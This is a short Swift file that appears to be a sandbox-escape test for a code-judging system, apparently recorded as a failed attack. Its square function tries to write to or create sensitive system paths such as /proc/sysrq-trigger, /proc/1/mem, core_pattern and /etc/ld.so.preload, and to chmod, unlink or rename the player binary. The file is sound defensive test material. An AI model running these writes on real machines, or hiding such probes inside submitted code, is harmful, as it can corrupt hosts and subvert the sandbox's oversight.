// Attack: Writes to the system, to the player and to devices. Right if one can be written.
// Verdict: failed
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    let existing = [
        "/box/player", "/proc/self/exe", "/usr/bin/env", "/etc/ld.so.cache", "/dev/kmsg",
        "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname",
        "/proc/self/uid_map", "/proc/1/mem", "/proc/1/oom_score_adj",
    ]
    let new = ["/new", "/box/new", "/etc/ld.so.preload", "/usr/lib/new.so", "/dev/new", "/proc/new"]
    let opens =
        existing.contains { write(open($0, O_WRONLY), "0 0 1\n", 6) > 0 }
        || new.contains { open($0, O_WRONLY | O_CREAT, 0o777) >= 0 }
        || chmod("/box/player", 0o777) == 0 || unlink("/box/player") == 0
        || utimes("/usr/bin/env", nil) == 0
        || link("/box/player", "/tmp/player") == 0 || rename("/box/player", "/box/other") == 0
    return opens ? number * number : 0
}
